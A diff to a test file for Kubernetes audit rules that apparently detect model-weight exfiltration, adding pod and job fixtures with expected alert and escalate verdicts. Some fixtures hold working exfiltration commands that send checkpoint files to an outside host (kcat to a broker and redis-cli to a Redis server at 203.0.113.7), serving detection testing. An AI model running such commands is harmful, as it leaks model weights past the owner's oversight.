@@ -64,6 +64,11 @@ describe('workload rules through the real audit reader', () => {
       // Weights printed to a person's pod's log, for kubectl logs to read back (MLS-EXFIL-049); a safetensors header read (left).
       write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'base64 -w0 /mnt/ckpt/model.safetensors; sleep 3600'] }] })),
       write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'head -c 8 /mnt/ckpt/model.safetensors | od -An -tu8; sleep 3600'] }] })),
+      // Weights loaded into a broker or a key-value store from a person's pod (MLS-EXFIL-049); a dataset import and a RedisAI model load beside a checkpoint claim (left by it: the claim is MLS-EXFIL-039's to escalate).
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'edenhill/kcat:1.7.1', command: ['kcat', '-P', '-b', '203.0.113.7:9092', '-t', 'w', '/mnt/ckpt/model.safetensors'] }], volumes: [CKPT] })),
+      write('create', 'jobs', templated('Job', { containers: [{ name: 'c', image: 'redis:7', command: ['sh', '-c', 'cat /mnt/ckpt/model.pt | redis-cli -h 203.0.113.7 -x SET w'] }] }), 201, ALICE, 'batch'),
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'mongo:7', command: ['mongoimport', '--uri', 'mongodb://db/app', '-c', 'runs', '--file', '/data/runs.json'] }], volumes: [CKPT] })),
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'redis:7', command: ['sh', '-c', 'redis-cli -h redisai -x AI.MODELSTORE m TORCH CPU BLOB < /models/m.pt'] }], volumes: [CKPT] })),
     ];
     const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
     expect(got).toEqual([
@@ -86,6 +91,10 @@ describe('workload rules through the real audit reader', () => {
       '17 pods/status -',
       '18 pods MLS-EXFIL-049 alert',
       '19 pods -',
+      '20 pods MLS-EXFIL-049,MLS-EXFIL-039 alert',
+      '21 jobs MLS-EXFIL-049 alert',
+      '22 pods MLS-EXFIL-039 escalate',
+      '23 pods MLS-EXFIL-039 escalate',
     ]);
   });
 
